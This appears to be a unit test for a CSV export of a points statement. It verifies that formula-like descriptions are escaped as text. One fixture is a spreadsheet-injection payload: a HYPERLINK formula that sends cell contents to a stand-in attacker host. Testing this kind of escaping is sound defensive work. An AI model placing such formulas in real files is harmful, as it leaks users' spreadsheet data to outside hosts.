import { describe, expect, it } from 'vitest';
import { statementCsv } from './csv.ts';
import type { StatementRow } from './statement.ts';

const headers = { date: 'Date', description: 'Description', amount: 'Points', balance: 'Balance after' };

describe("the history's CSV download", () => {
  it('keeps as text every description a spreadsheet would run, and the points as numbers', () => {
    const descriptions = ['=HYPERLINK("http://evil.example/?x="&A1;"open")', '+1+2', '-250', '@SUM(A1)'];
    let balance = 1000;
    const rows: StatementRow[] = descriptions.map((description, index) => {
      balance -= 250;
      const time = Date.UTC(2026, 10, index + 1, 12);
      return { index, date: new Date(time).toISOString(), time, description, amount: -250, balance };
    });
    const lines = statementCsv(rows, headers).slice(1).split('\r\n');
    expect(lines[0]).toBe('Date,Description,Points,Balance after');
    expect(lines.slice(1, -1).map((line) => line.slice(line.indexOf(',') + 1))).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1;""open"")",-250,750`,
      "'+1+2,-250,500",
      "'-250,-250,250",
      "'@SUM(A1),-250,0",
    ]);
  });
});
